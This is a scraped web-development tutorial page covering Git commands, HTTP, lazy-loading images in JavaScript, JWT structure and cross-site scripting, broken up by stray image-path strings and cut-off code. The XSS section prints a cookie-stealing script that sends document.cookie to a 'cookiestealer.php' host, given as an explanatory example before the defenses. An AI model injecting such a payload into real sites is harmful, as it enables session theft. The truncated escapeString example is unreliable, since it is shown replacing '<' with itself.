  • After your have installed the Git create your first project by running following commandgit init sleeplessyogi
// sleeplessyogi is your project name. It can be anything you want.
cd sleeplessyogi
  • When you run this command a Git repository will be created
  • And you will go inside that directory

Adding a file to your repo

  • Create a text file first.txt in your new folder
  • Now to add that file to the Git repository run the following command
git add first.txt
  • This will stage your file making itready to commit
  • The git add command takes a snapshot of your file
  • Now you will have to push/save this snapshot to your Git repository

Pro tip: You can add all your files by simplyrunning git add . instead of providing the individual file names

Committing your file

  • Once you have staged your you will have to run commit command to push your changes to the Git repository
  • Run the following command to commit your changes
git commit -m "my first commit"
  • Running this command will make save the snapshot of that file in your Git history
  • Commit command can take multiple flags allowing you to customize the command
  • -m flag is used to provide the commit message
  • You can see list of all the available flags here

Must Have Best VSCode Extensions To Increase Your Productivity

Beginning development in VSCode? Switching to VSCode? Save the nostalgia and the lost feeling. These extensions are here to save the day and possibly a lot more days before the deadline.

Module 2 - HTTP and API

What is HTTP

  • Hyper Text Transfer Protocol
  • It defines a set of rules for sending and receiving (transfer) web pages (hypertext)
    • It is also used to transfer other type of data like JSON and images
  • It is a simple request -> response cycle between a local machine called as client and a remote machine called as server
  • When a request is made it has 3 main pieces
    • Start-line
      • Method, target, version
      • ex: GET /image.jpg HTTP/2.0
    • Headers
    • Body
  • When a response is send back it also has 3 main pieces
    • Start-line
      • Version, status code, status text
      • ex: HTTP/2.0 404 Not Found
    • Headers
    • Body

  • Above illustration shows a simple workflow design on how HTTP works
  • Your browser makes a GET request to get the site data
    • sleeplessyogi.com in this case• The web server has all the needed content to load the site
  • The web server sends the necessary content back to the browser in response

HTTP is a stateless protocol

  • It treats each pair of request and response independent
  • It does not require to store session information
  • This simplifies the server design
  • As there is no clean up process required of server state in case the client dies
  • But, disadvantage being - additional information is required with every request which is interpreted by server

HTTP2 tutorial - Pros, Cons and other most frequently asked questions

One of every five people I meet is talking about this sizzling new topic- The HTTP/2. But, I am not really sure how many of us really know what we are talking about exactly.

Get NordVPN Deal

Module 3 - Web Application Performance

How tolazy load images?

  • There are plugins available too
  • Below are some methods using vanilla JavaScript

Method 1

  • David Walsh's method
  • It is easy to implement and it’s effective
  • Images are loaded after the HTML content
  • However, you don’t get the saving on bandwidth that comes with preventing unnecessary image data from being loaded whenvisitors don’t view the entire page content
  • All images are loaded by the browser, whether users have scrolled them into view or not
  • What happens if JS is disabled?
    • Users may not see any image at all
    • Add <noscript> tag with src property
alt="My Image"
width="300px" />• Here we are selecting all the images with img[data-src] selector
  • Once the HTML is loaded we just replace the data-src attribute with src attribute which will render the image
<img data-src="myImage.jpg" alt="My Image">
[].forEach.call(document.querySelectorAll('img[data-src]'), function(img) {
img.setAttribute('src', img.getAttribute('data-src'));
img.onload = function() {

Method 2

  • Progressively Enhanced Lazy Loading
  • It is an add on to previous David Walsh's method
  • It lazy loads images on scroll
  • It works on the notion that not all images will be loaded if users don’t scroll to their location in the browser


  • We have defined function isInViewport which determines where the image "rectangle" via thegetBoundingClientRect function
  • In that function we check if the coordinates of the image are in the viewport of the browser
  • If so, then the isInViewport functionreturns true and our lazyLoad() method rendersthe image
  • If not, then we just skip rendering that image
function lazyLoad(){
for(var i=0; i<lazy.length; i++){
if (lazy[i].getAttribute('data-src')){
lazy[i].src = lazy[i].getAttribute('data-src');
function isInViewport(el){
var rect = el.getBoundingClientRect();
return (
rect.bottom >= 0 &&
rect.right >= 0 &&
rect.top <= (window.innerHeight || document.documentElement.clientHeight) &&
rect.left <= (window.innerWidth || document.documentElement.clientWidth)

Student Feedback

HTML To React review

Module 4 - Web security

JSON Web Token - JWT

  • It is standard used to create access tokens for an application
  • It is a way for securely transmitting information between parties as a JSON object
  • Information about the auth (authentication and authorization) can be stored within the token itself
  • JWT can be represented as a single string

Structure of JWT

  • It is made up of three major components
  • Each component is base64 encodedbase64Url(header) + '.' + base64Url(payload) + '.' + base64Url(signature)
// example how JWT looks like:

  • Header
    • Contains the metadata about the JWT itself
    • Ex: type of algorithm used to encrypt the signature
// Header example
"alg": "HS256",
"typ": "JWT"

  • Payload
    • This is the most important part from the app's perspective
    • Payload contains the claims
    • User sends this payload to the server
    • Server then decodes the payload to check for example whether the user can delete a resource
// Payload example
"name": "Ninja",
"iat": 123422221, // timestamp the JWT was issued
"isAdmin": true,
"permissions": {
"canViewOrders": true,
"canDeleteOrders": false

  • Signature
    • This pertains to the security• Basically, it's a hashed value of your header, payload, and SECRET
    • The secret that only server and trusted entities know
    • Server used this signature to validate the JWT sent by the user
    • It looks gibberish

  • Imagine international airport
  • You come to the immigration and say - "hey I live here, please pass me through"
    • Your passport confirms this
  • Passport office - authentication service which issued JWT
  • Passport - JWT signed by passport office
  • Citizenship/visa - your claim contained in the JWT
  • Border immigration - security layer which verifies and grants access to the resources
  • Country - the resource you want to access

How JWT works

  • JWT is returned as a response to the user after successful login• JWT is saved locally on local storage, session storage or cookie
  • When user want to access private route
    • User query request will send the JWT in authorization header using the bearer schema Authorization: Bearer <token>
  • Protected route checks if the JWT is valid and whether the user has the access
    • If so, then user is allowed to the route or perform the restricted action

Advantages of JWT

  • It is compact so transmission is fast
  • JSON is less verbose
  • It is self contained
    • The payload contains all the required information about user
    • So no need to query server more than once
  • It is very secure
    • It can use the shared SECRET as well as pub/private key pair
    • Strength of the security is strongly linked to your secret key
  • It is easy to implement
    • Developers use Auth0 to manage majority if the JWT stack

Disadvantages of JWT

  • Logouts, deleting users, invalidating token is not easy in JWT
  • You need to whitelist or backlist the JWTs
  • So every time user sends JWT in the request you have tocheck in the backlist of the JWT

How SSL certificate works? In plain english

I am sure you must have heard about HTTPS. Ever wondered what does the "S" in HTTPS stand for? And, how does it really work?

Student Feedback

HTML To React review


  • Cross Site Scripting
  • The attacker injects malicious script into trusted website
    • Example: attacker injects JavaScript code which is displayed in user browser
  • Vulnerabilities are injected via
    • URL
    • DOM manipulation
  • Types
    • Unprotected and not sanitized user inputs are stored in database and displayed to other users
    • Unprotected and not sanitized values from URLs are directly used on the web pages
  • When a user is XSS'ed
    • The attacker has access to all it's web browser content
    • Cookies, history, etc.

How XSS work?

  • Refer to the flow from the above diagram
  • Ideally website inputs should only accept plain texts
  • But consider there is a vulnerable website which accepts below script tag and saves it, like bow
document.write('<img src="http://localhost/cookiestealer.php? cookie ='
+ escape(document.cookie) +
+ ' />');
// `document.cookie` has the cookie
// `cookiestealer.php` has the script to send the cookie to the attacker
  • Attacker injects the above example script that will steal the victim's cookies
  • The victim browser will think its javascript code sent by server to be executed
  • The user will see an image-link so user might just click it
  • When the user clicks this link image gets rendered, BUT -
    • In the background this link will silently grab the cookie
    • This cookie has all the active session details
  • The cookies are sent to the attacker• Now attacker can pose as the victim user and do bad things

Defense against XSS

  • Every value that can beentered by user should be treated as untrusted data
  • All the input must be sanitized before storing
    • Example: all theHTML tags are removed
  • Validation code for number values, username, email, password
    • There are existing libraries available for doing such validations
  • Escape the strings
    • This script looks for special characters, such as < > and replaces them with appropriate HTML character entity name• There are existing libraries available for this purpose
    • Write escape logic on front end as well as back end
    • Below is a simple logic how to escape the string
function escapeString(str) {
return str.replace(/</g, '<')

Liked the free lessons, want the entire book?

Click here to grab your copy of the HTML to React: The Ultimate Guide

This book is beginners friendly and contains project ideas, interview prep, roadmaps, and much more.

Try Etsy For Free
Previous: Coding Bits: Applying programming knowledge X Algorithms and datastructures for web devNext: HugeList of Small Advices

Share This Post